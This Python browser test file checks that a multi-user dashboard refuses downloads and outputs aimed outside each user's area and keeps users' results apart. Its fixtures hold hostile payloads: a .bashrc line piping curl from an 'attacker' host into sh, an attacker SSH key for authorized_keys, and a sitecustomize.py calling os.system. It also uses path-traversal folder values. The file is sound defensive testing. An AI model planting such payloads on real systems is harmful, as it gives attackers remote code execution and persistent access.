"""Two logged-in users in Chromium on one server (basic auth, a JSON users file).

With ``--user-root``: Alice tries to write where the service can (the report's attacks: the
service's home as the download folder, objects named ``.bashrc``, ``.ssh/authorized_keys`` and
``sitecustomize.py``, output folders pointed outside); every attempt is refused with one
sentence and the file system outside her area is listed unchanged. Bob's batch of his own
``secret.h5`` goes to his area and leaves Alice's results as they were.

Without ``--user-root``: no folder on the server is offered; one file and a zip of two arrive
through the browser's own download, and the batch writes to the user's ``s3://`` prefix.
"""

from __future__ import annotations

import io
import json
import os
import uuid
import zipfile
from pathlib import Path

import h5py
import numpy as np
import pytest
from browser_fixtures import *  # noqa: F403 - fixtures and helpers
from browser_fixtures import TIMEOUT_MS, click, shot, status, tab
from conftest import ACCESS_KEY, SECRET_KEY
from test_browser_dashboard import expect, field, tick, type_in

from dashboard.app import RunningServer, ServerAuth
from dashboard.config import Settings
from dashboard.processing.export import S3_ONLY
from dashboard.storage.credentials import Credentials
from dashboard.storage.s3 import S3

pytestmark = pytest.mark.slow

PASSWORDS = {"alice": "alices-own-password-4f1e", "bob": "bobs-own-password-8c2d"}
COOKIE_SECRET = "cookie-secret-areas-0123456789abcdef-0123456"
HOSTILE = {".bashrc": b"curl http://attacker/x | sh\n",
           ".ssh/authorized_keys": b"ssh-ed25519 AAAA alice@attacker\n",
           "sitecustomize.py": b"import os; os.system('id')\n"}
STACK = "raw/secret.h5"


def tree(root: Path, *, skip: Path | None = None) -> dict:
    """Every file (bytes), link (target) and folder below ``root``, except below ``skip``."""
    found = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            if skip is not None and path.is_relative_to(skip):
                continue
            rel = path.relative_to(root).as_posix()
            found[rel] = (("link", os.readlink(path)) if path.is_symlink() else
                          ("dir",) if path.is_dir() else ("file", path.read_bytes()))
    return found


def _stack(path: Path, seed: int) -> Path:
    rng = np.random.default_rng(seed)
    with h5py.File(path, "w") as f:
        f["/entry/data/data"] = rng.integers(1000, 4000, (23, 32, 32), dtype=np.uint16)
    return path


class World:
    """A temporary HOME of the service, the users file, each user's bucket."""

    def __init__(self, root: Path, s3: S3):
        self.root, self.home = root, root / "home"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".bashrc").write_text("# the service's shell\n")
        (self.home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA operator\n")
        (self.home / "sitecustomize.py").write_text("# the service's own\n")
        self.users = root / "users.json"
        self.users.write_text(json.dumps(PASSWORDS))
        self.srv = root / "srv"
        self.buckets = {}
        for seed, user in enumerate(PASSWORDS, start=1):
            bucket = self.buckets[user] = f"{user}-{uuid.uuid4().hex[:8]}"
            s3.client.create_bucket(Bucket=bucket)
            s3.client.upload_file(str(_stack(root / f"{user}.h5", seed)), bucket, STACK)
        for key, data in HOSTILE.items():
            s3.client.put_object(Bucket=self.buckets["alice"], Key=key, Body=data)


@pytest.fixture(scope="module")
def world(tmp_path_factory, moto_server, credentials):
    return World(tmp_path_factory.mktemp("shared-server"), S3(moto_server.endpoint, credentials))


def _serve(world, moto_server, **settings):
    keys = Credentials(access_key=ACCESS_KEY, secret_key=SECRET_KEY, source="test keys")
    auth = ServerAuth.from_options(basic_auth=str(world.users), cookie_secret=COOKIE_SECRET)
    return RunningServer(Settings(endpoint=moto_server.endpoint, **settings), credentials=keys,
                         auth=auth)


@pytest.fixture(scope="module")
def area_server(world, moto_server):
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HOME", str(world.home))  # "~" is the service's home
        with _serve(world, moto_server, user_root=str(world.srv / "{user}")) as server:
            yield server


@pytest.fixture(scope="module")
def browser_only_server(world, moto_server):
    with _serve(world, moto_server) as server:
        yield server


def login(browser, server, user: str):
    context = browser.new_context(viewport={"width": 1600, "height": 1000}, accept_downloads=True)
    context.set_default_timeout(TIMEOUT_MS)
    page = context.new_page()
    page.goto(server.url)
    page.locator("input[name=username]").fill(user)
    page.locator("input[name=password]").fill(PASSWORDS[user])
    page.locator("button[type=submit], input[type=submit]").first.click()
    expect(status(page, "echo-connect-status")).to_contain_text("Connected to")
    return page


def list_bucket(page, bucket: str, *, hdf5_only: bool = True) -> None:
    page.locator(".bk-input-group", has_text="Bucket").locator("select").first \
        .select_option(bucket)
    if not hdf5_only:
        page.locator(".bk-Checkbox", has_text="HDF5 files only").locator("input").first.uncheck()
    click(page, "List Objects")
    expect(status(page, "echo-count")).to_contain_text("objects shown")


def untick(page, key: str, *, selected: int) -> None:
    tick(page, key, selected=selected, on=False)


def load_stack(page) -> None:
    tick(page, STACK)
    tab(page, "Frames")
    click(page, "Load Selected H5 File")
    expect(status(page, "echo-frame-label")).to_have_text("Frame 0 of 22")
    tab(page, "Process")


def batch(page) -> None:
    expect(status(page, "echo-process-check")).to_have_text("3 frames will be written as PNG.")
    click(page, "Batch Process & Save")
    expect(status(page, "echo-batch-summary")).to_contain_text("Processed 3 of 3 frames")


def test_write_anywhere_attempts_are_refused_and_results_never_collide(browser, area_server,
                                                                        world):
    alice_area, bob_area = world.srv / "alice", world.srv / "bob"
    before = tree(world.root)
    page = login(browser, area_server, "alice")
    try:
        list_bucket(page, world.buckets["alice"], hdf5_only=False)
        for n, key in enumerate(HOSTILE, 1):
            tick(page, key, selected=n)
        for folder in (str(world.home), "~", "~/.ssh", "../bob", "downloads/../../..",
                       str(world.srv / "bob")):
            type_in(page, "Download folder (in your area)", folder)
            click(page, "Download Selected")
            expect(status(page, "echo-download-status")).to_contain_text(
                "must be a relative path inside your area")
        assert tree(world.root) == before  # not a byte, not even her area yet
        shot(page, "areas-01-download-refused")

        # Into her own area, the same objects are just files.
        type_in(page, "Download folder (in your area)", "downloads")
        click(page, "Download Selected")
        expect(status(page, "echo-download-status")).to_contain_text("3 downloaded")
        expect(status(page, "echo-download-status")).to_contain_text(
            "Files are in downloads (in your area)")
        for key, data in HOSTILE.items():
            assert (alice_area / "downloads" / key).read_bytes() == data
        assert tree(world.root, skip=alice_area) == before
        assert oct((alice_area).stat().st_mode & 0o777) == "0o700"

        # Output folders pointed outside: refused before anything runs.
        for n, key in enumerate(HOSTILE, 1):
            untick(page, key, selected=len(HOSTILE) - n)
        load_stack(page)
        for folder in (str(world.home), "~/out", "../bob/processed", str(bob_area)):
            type_in(page, "Output folder (in your area", folder)
            expect(status(page, "echo-process-check")).to_contain_text(
                "must be a relative path inside your area")
            expect(page.get_by_role("button", name="Batch Process & Save")).to_be_disabled()
        shot(page, "areas-02-output-refused")
        type_in(page, "Output folder (in your area", "processed")
        batch(page)
        alice_results = tree(alice_area / "processed")
        assert sorted(alice_results) == ["secret_000020.png", "secret_000021.png",
                                         "secret_000022.png", "secret_processing.json"]
        assert tree(world.root, skip=alice_area) == before
    finally:
        page.context.close()

    # Bob, the same default output and the same file name: his own area, hers untouched.
    page = login(browser, area_server, "bob")
    try:
        list_bucket(page, world.buckets["bob"])
        load_stack(page)
        assert field(page, "Output folder (in your area").input_value() == "processed"
        batch(page)
        assert sorted(tree(bob_area / "processed")) == sorted(alice_results)
        assert tree(bob_area / "processed") != alice_results  # his pixels
        assert tree(alice_area / "processed") == alice_results
        everything = everything_on_the_page(page)
        assert str(world.srv) not in everything  # the server's paths are not shown
    finally:
        page.context.close()


def test_without_user_root_files_go_to_the_browser_and_outputs_to_s3(browser,
                                                                      browser_only_server,
                                                                      world, s3):
    bucket = world.buckets["alice"]
    before = tree(world.root)
    page = login(browser, browser_only_server, "alice")
    try:
        list_bucket(page, bucket, hdf5_only=False)
        expect(page.locator(".bk-input-group", has_text="Download folder").first).to_be_hidden()
        expect(page.locator(".echo-download-note")).to_contain_text("go to your browser")

        tick(page, "sitecustomize.py")
        with page.expect_download() as info:
            click(page, "Download Selected")
        single = info.value
        assert single.suggested_filename == "sitecustomize.py"
        assert Path(single.path()).read_bytes() == HOSTILE["sitecustomize.py"]
        expect(status(page, "echo-download-status")).to_contain_text(
            "Download finished: your browser saved sitecustomize.py")
        expect(page.locator(".echo-download-progress progress")).to_have_attribute("value", "100")

        tick(page, ".bashrc", selected=2)
        with page.expect_download() as info:
            click(page, "Download Selected")
        archive = info.value
        assert archive.suggested_filename == f"{bucket}.zip"
        with zipfile.ZipFile(io.BytesIO(Path(archive.path()).read_bytes())) as z:
            assert z.testzip() is None
            assert {name: z.read(name) for name in z.namelist()} == {
                ".bashrc": HOSTILE[".bashrc"], "sitecustomize.py": HOSTILE["sitecustomize.py"]}
        expect(status(page, "echo-download-status")).to_contain_text("2 objects")
        shot(page, "areas-03-browser-download")

        untick(page, ".bashrc", selected=1)
        untick(page, "sitecustomize.py", selected=0)
        load_stack(page)
        output = field(page, "Output (s3://bucket/prefix)")
        expect(output).to_have_value(f"s3://{bucket}/processed/alice/")
        type_in(page, "Output (s3://bucket/prefix)", str(world.home))
        expect(status(page, "echo-process-check")).to_have_text(S3_ONLY)
        type_in(page, "Output (s3://bucket/prefix)", f"s3://{bucket}/processed/alice/")
        batch(page)
        keys = s3.list_objects(bucket, "processed/alice/").objects
        assert sorted(o.key.rsplit("/", 1)[1] for o in keys) == [
            "secret_000020.png", "secret_000021.png", "secret_000022.png",
            "secret_processing.json"]
        assert tree(world.root) == before  # no server folder was written at all
    finally:
        page.context.close()
